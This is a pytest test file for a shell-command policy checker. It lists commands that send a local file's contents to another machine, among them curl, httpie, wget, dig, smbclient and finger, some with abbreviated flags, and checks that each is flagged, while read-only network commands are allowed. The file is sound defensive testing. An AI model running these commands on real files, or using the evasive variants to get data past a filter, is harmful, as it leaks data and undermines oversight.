"""Ways of sending what a file has to another machine."""

from __future__ import annotations

import pytest

from hermes_jobs.kernel.engine.ports import Verdict

from .test_policy import verdict

SENDING = r"""
curl --variable x@a.txt --expand-url 'http://example.org/{{x}}'
curl --variab x@a.txt --expand-u 'http://example.org/{{x}}'
curl --variable %HOME --expand-header 'X: {{HOME}}' http://example.org/
curl --url-query x@a.txt http://example.org/
curlie -F f=@a.txt example.org
curlie POST example.org a=b
http example.org @a.txt
http example.org q==@a.txt
http example.org < a.txt
wget -i a.txt -B http://example.org/
wget --inp=a.txt --ba=http://example.org/
dig -f a.txt
dig @9.9.9.9 -f a.txt
fping -f a.txt
nslookup < a.txt
smbclient //example/share -c 'put a.txt'
smbclient //files.example.org/share -c 'put a.txt'
smbput a.txt smb://example/share
ncftpput example / a.txt
finger data@example.org
""".strip().splitlines()


@pytest.mark.parametrize("command", SENDING)
def test_sending_what_a_file_has_is_asked_about(command: str) -> None:
    assert verdict(command).rule.split("; ")[0] == "another host"


@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://example.org/ -o x.html",
        "wget -i urls.txt",
        "dig +short example.org",
        "http :8000/health",
        "http GET example.org a==b",
        "smbclient //localhost/share -c ls",
        "nslookup example.org",
    ],
)
def test_reading_of_other_machines_is_not(command: str) -> None:
    assert verdict(command) == Verdict("allow")
